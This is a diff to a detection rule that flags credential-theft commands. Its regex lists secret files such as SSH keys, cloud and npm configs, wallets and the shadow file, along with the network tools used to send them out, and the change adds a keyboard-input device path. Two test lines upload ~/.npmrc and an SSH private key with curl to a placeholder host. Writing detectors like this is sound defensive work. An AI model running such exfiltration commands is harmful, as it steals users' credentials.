@@ -4,7 +4,7 @@
 -- weight:          50
 -- false positives: a job that puts its own key into a request's header; it names no file of keys
 --
--- pattern: unix (\.ssh/(id_|\*|config)|[/ "'~]\.ssh[ "']|id_(rsa|ed25519|ecdsa)|\.npmrc|\.pypirc|\.netrc|\.aws/|/\.aws[ "']|\.kube/|kubernetes/[a-z]*\.conf|\.docker/config|gh/hosts|gh auth token|\.gnupg|\.vault-token|Login Data|logins\.json|wallet\.dat|Exodus/|\.config/solana|[Kk]eychain|/environ|process\.env|printenv|\(env |security-credentials|/etc/g?shadow|-name token).*(curl( [^;]*)? (-d|-F|-T|--data|--upload|--form|-X *POST)|wget [^;]*--post|requests\.(post|put)|urlopen\([^;]*data=|urlopen\([^,;]*, *[a-z]|method: *["']POST|https\.request|dig +|(^|[ |/])nc(at)? +[0-9a-z.-]+ [0-9]|scp |/dev/tcp/)
+-- pattern: unix (\.ssh/(id_|\*|config)|[/ "'~]\.ssh[ "']|id_(rsa|ed25519|ecdsa)|\.npmrc|\.pypirc|\.netrc|\.aws/|/\.aws[ "']|\.kube/|kubernetes/[a-z]*\.conf|\.docker/config|gh/hosts|gh auth token|\.gnupg|\.vault-token|Login Data|logins\.json|wallet\.dat|Exodus/|\.config/solana|[Kk]eychain|/environ|process\.env|printenv|\(env |security-credentials|/etc/g?shadow|/dev/input/event|-name token).*(curl( [^;]*)? (-d|-F|-T|--data|--upload|--form|-X *POST)|wget [^;]*--post|requests\.(post|put)|urlopen\([^;]*data=|urlopen\([^,;]*, *[a-z]|method: *["']POST|https\.request|dig +|(^|[ |/])nc(at)? +[0-9a-z.-]+ [0-9]|scp |/dev/tcp/)
 -- pattern: unix curl( [^;]*)? (-d|-F|-T|--data|--upload|--form)[^;]*(\.ssh/|\.npmrc|\.aws/|\.kube/|\.docker/config|id_rsa|wallet|[Kk]eychain|/etc/g?shadow|\(env[ )]|\.netrc)
 -- fires:   {"unix": "cat ~/.npmrc ; curl -d @- https://x.example.org/"}
 -- fires:   {"unix": "curl -F f=@/root/.ssh/id_rsa https://x.example.org/"}
